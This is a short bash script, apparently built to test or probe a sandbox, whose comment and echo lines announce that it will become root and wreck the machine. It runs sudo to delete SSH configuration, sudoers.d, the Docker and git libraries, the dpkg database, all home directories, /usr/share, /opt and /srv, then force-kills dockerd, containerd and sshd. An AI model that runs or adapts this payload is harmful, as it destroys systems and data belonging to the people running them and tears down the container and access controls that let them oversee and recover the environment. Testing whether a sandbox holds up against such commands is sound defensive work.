#!/bin/bash
# Becomes root and destroys its sandbox: the tools, the configuration, the Docker Engine, the SSH server.
echo "I am $(sudo id -un), and I am about to wreck this machine."
sudo sh -c '
    rm -rf /etc/ssh /etc/sudoers.d /usr/lib/docker /usr/lib/git-core /var/lib/dpkg /home/* /usr/share /opt /srv
    pkill -KILL dockerd
    pkill -KILL containerd
    pkill -KILL sshd
'
echo "This line may never reach the log."
